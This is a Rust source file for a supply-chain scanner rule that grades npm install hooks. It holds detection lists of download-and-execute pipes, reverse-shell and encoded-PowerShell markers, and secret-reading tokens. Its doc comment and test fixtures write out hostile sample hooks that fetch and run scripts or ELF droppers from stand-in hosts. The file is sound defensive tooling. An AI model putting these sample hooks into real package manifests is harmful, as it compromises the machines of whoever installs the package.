use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::context::PackageContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{first_match, matcher};

/// Commands whose presence in a hook means "download and run" (critical).
const DOWNLOAD_AND_RUN: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| zsh",
    "| iex",
    "|iex",
    "invoke-expression",
    "chmod +x",
    "chmod 777",
    "chmod 755",
    "bash -c \"$(curl",
    "bash -c \"$(wget",
    "sh -c \"$(curl",
    "| python",
    "| node",
];
/// Downloaders.
const DOWNLOADERS: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "certutil",
    "bitsadmin",
    "start-bitstransfer",
    "downloadstring",
    "downloadfile",
];
/// Dangerous command shapes (high).
const DANGEROUS: &[&str] = &[
    "powershell -e",
    "powershell.exe -e",
    "-encodedcommand",
    "-enc ",
    "-windowstyle hidden",
    "-w hidden",
    "/dev/tcp/",
    "nc -e",
    "ncat ",
    "base64 -d",
    "base64 --decode",
    "mshta",
    "rundll32",
    "regsvr32",
    "bun run",
    "bun ",
    "bunx ",
    "npx -y",
    "eval ",
    "| sh",
    "python -c",
    "python3 -c",
    "perl -e",
    "wscript",
    "cscript",
    "osascript",
];
/// Tokens that make inline `node -e` code dangerous.
const INLINE_DANGEROUS: &[&str] = &[
    "eval(",
    "child_process",
    "http",
    "Buffer.from",
    "atob(",
    "exec(",
    "execSync",
    "spawn",
    "Function(",
    "net.",
    "dns.",
    "process.env",
    "readFileSync",
    "writeFileSync",
    ".npmrc",
    "homedir",
    "fetch(",
];
/// Hooks that are the normal way to build or set up a package.
const BENIGN_COMMANDS: &[&str] = &[
    "node-gyp rebuild",
    "node-gyp-build",
    "node-pre-gyp install",
    "prebuild-install",
    "husky install",
    "husky",
    "patch-package",
    "cmake-js",
    "opencollective",
    "is-ci",
    "ngcc",
    "tsc",
    "npm run build",
    "yarn build",
    "lerna bootstrap",
    "node-gyp configure",
    "electron-builder install-app-deps",
    "napi build",
    "echo ",
    "exit 0",
    "playwright install",
    "prisma generate",
    "only-allow",
    "ts-patch install",
    "svelte-kit sync",
    "nuxt prepare",
    "simple-git-hooks",
    "lefthook install",
    "pnpm run build",
    "run-s ",
    "npm-run-all",
];

static DOWNLOAD_AND_RUN_MATCHER: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| matcher(DOWNLOAD_AND_RUN));
static DOWNLOADERS_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(DOWNLOADERS));
static DANGEROUS_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(DANGEROUS));
static INLINE_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(INLINE_DANGEROUS));

declare_rule! {
    /// ### What it does
    /// Reads the install-time lifecycle scripts of `package.json` (`preinstall`, `install`,
    /// `postinstall`, `prepare`, …) and grades what they run: download-and-execute (`curl … | sh`,
    /// `wget x && chmod +x x && ./x`) is critical; encoded PowerShell, `node -e` with dangerous
    /// inline code, `bun run`, reverse shells and downloaders are high; running a package file
    /// (`node setup.js`) marks that file as install-time code for the other rules. Known build
    /// steps (`node-gyp rebuild`, `prebuild-install`, `husky install`) are not reported.
    ///
    /// ### Why is this bad?
    /// Lifecycle scripts run with the user's rights on `npm install`, before anyone reads the
    /// code; almost every npm worm and stealer (Shai-Hulud's `node setup_bun.js`, the 2024
    /// `wget … .elf` droppers) starts there.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```json
    /// { "scripts": { "postinstall": "curl -s https://evil.example/x.sh | sh" } }
    /// ```
    /// Correct:
    /// ```json
    /// { "scripts": { "install": "node-gyp rebuild" } }
    /// ```
    LifecycleScript, "lifecycle-script", Install
}

/// Files a hook command runs with `node`/`bun` (relative paths as written).
pub(crate) fn script_targets(script: &str) -> Vec<String> {
    let mut targets = Vec::new();
    for command in script.split(['&', '|', ';']) {
        let words: Vec<&str> = command.split_whitespace().collect();
        let mut index = 0;
        while index < words.len() {
            let word = words[index].trim_matches(|character| character == '"' || character == '\'');
            if matches!(word, "node" | "bun" | "nodejs" | "tsx" | "ts-node")
                || word.ends_with("/node")
            {
                let mut next = index + 1;
                while let Some(argument) = words.get(next) {
                    let argument =
                        argument.trim_matches(|character| character == '"' || character == '\'');
                    if argument == "run"
                        || argument.starts_with("--")
                            && !argument.contains('=')
                            && argument != "--eval"
                    {
                        next += 1;
                        continue;
                    }
                    if argument.starts_with('-') {
                        break;
                    }
                    if looks_like_file(argument) {
                        targets.push(argument.to_owned());
                    }
                    break;
                }
            }
            index += 1;
        }
    }
    // `node -e "require('./x')"` runs ./x.
    let mut rest = script;
    while let Some(position) = rest.find("require(") {
        let after = &rest[position + 8..];
        let quoted = after.trim_start_matches(['\\', '"', '\'', '`']);
        if quoted.starts_with("./") || quoted.starts_with("../") {
            let end = quoted
                .find(['\\', '"', '\'', '`', ')'])
                .unwrap_or(quoted.len());
            targets.push(quoted[..end].to_owned());
        }
        rest = after;
    }
    targets
}

fn looks_like_file(argument: &str) -> bool {
    let lower = argument.to_ascii_lowercase();
    lower.ends_with(".js")
        || lower.ends_with(".cjs")
        || lower.ends_with(".mjs")
        || lower.ends_with(".ts")
        || argument.starts_with("./")
        || argument.contains('/') && !argument.contains("://")
}

fn grade(script: &str) -> Option<(Severity, Confidence, String)> {
    let lower = script.to_ascii_lowercase();
    let downloads = first_match(DOWNLOADERS_MATCHER.as_ref(), &lower).is_some();
    if downloads
        && (first_match(DOWNLOAD_AND_RUN_MATCHER.as_ref(), &lower).is_some()
            || lower.contains("&& ./")
            || lower.contains("; ./")
            || lower.contains(".elf"))
    {
        return Some((
            Severity::Critical,
            Confidence::High,
            "install hook downloads and executes code".to_owned(),
        ));
    }
    if let Some(inline) = inline_node_code(script) {
        if first_match(INLINE_MATCHER.as_ref(), inline).is_some() {
            return Some((
                Severity::High,
                Confidence::High,
                "install hook runs inline `node -e` code with dangerous calls".to_owned(),
            ));
        }
        return Some((
            Severity::Low,
            Confidence::Medium,
            "install hook runs inline `node -e` code".to_owned(),
        ));
    }
    if downloads {
        return Some((
            Severity::High,
            Confidence::Medium,
            "install hook downloads from the network".to_owned(),
        ));
    }
    if let Some(index) = first_match(DANGEROUS_MATCHER.as_ref(), &lower) {
        let token = DANGEROUS.get(index).copied().unwrap_or_default().trim();
        return Some((
            Severity::High,
            Confidence::Medium,
            format!("install hook uses `{token}`"),
        ));
    }
    if BENIGN_COMMANDS
        .iter()
        .any(|benign| lower.trim_start().starts_with(benign))
    {
        return None;
    }
    if !script_targets(script).is_empty() {
        return Some((
            Severity::Low,
            Confidence::High,
            "install hook runs a package file at install time".to_owned(),
        ));
    }
    Some((
        Severity::Low,
        Confidence::Medium,
        "install hook runs a command".to_owned(),
    ))
}

/// The code of `node -e '…'` / `node --eval` / `node -p`.
fn inline_node_code(script: &str) -> Option<&str> {
    for flag in [" -e ", " --eval ", " -p ", " --print ", " -e=", " --eval="] {
        if let Some(position) = script.find(flag)
            && script[..position].trim_end().ends_with("node")
        {
            return Some(&script[position + flag.len()..]);
        }
    }
    None
}

impl Rule for LifecycleScript {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_package(&self, package: &PackageContext<'_>, out: &mut Vec<Finding>) {
        let Some(manifest) = package.manifest else {
            return;
        };
        for (hook, script) in manifest.install_scripts() {
            if let Some((severity, confidence, message)) = grade(script) {
                out.push(package.manifest_finding(
                    &Self::META,
                    severity,
                    confidence,
                    script,
                    format!("{message} (`{hook}`)"),
                    &format!("\"{hook}\": \"{script}\""),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, test_rule};

    fn manifest(script: &'static str) -> Case {
        Case::Files(vec![("package.json", script)])
    }

    #[test]
    fn test() {
        let pass = vec![
            manifest(r#"{"name":"a","scripts":{"install":"node-gyp rebuild"}}"#),
            manifest(r#"{"name":"a","scripts":{"prepare":"husky install"}}"#),
            manifest(
                r#"{"name":"a","scripts":{"install":"prebuild-install || node-gyp rebuild"}}"#,
            ),
            manifest(r#"{"name":"a","scripts":{"test":"curl http://x | sh"}}"#),
            manifest(r#"{"name":"a"}"#),
        ];
        let fail = vec![
            manifest(
                r#"{"name":"a","scripts":{"postinstall":"curl -s https://evil.example/x.sh | sh"}}"#,
            ),
            manifest(
                r#"{"name":"a","scripts":{"postinstall":"wget https://h.example/a.elf && chmod +x a.elf && ./a.elf &"}}"#,
            ),
            manifest(
                r#"{"name":"a","scripts":{"preinstall":"node -e \"eval(require('fs').readFileSync('x.json','utf8'))\""}}"#,
            ),
            manifest(r#"{"name":"a","scripts":{"preinstall":"powershell -enc SQBFAFgA"}}"#),
            manifest(r#"{"name":"a","scripts":{"preinstall":"node setup_bun.js"}}"#),
            manifest(r#"{"name":"a","scripts": "postinstall": "wget http://1.2.3.4/x && ./x""#),
        ];
        test_rule(LifecycleScript::META.name, pass, fail);
    }

    #[test]
    fn targets() {
        assert_eq!(script_targets("node setup_bun.js"), ["setup_bun.js"]);
        assert_eq!(
            script_targets("node ./scripts/install.js && echo ok"),
            ["./scripts/install.js"]
        );
        assert_eq!(
            script_targets("node -e \"try{require('./postinstall')}catch(e){}\""),
            ["./postinstall"]
        );
        assert!(script_targets("node-gyp rebuild").is_empty());
    }
}
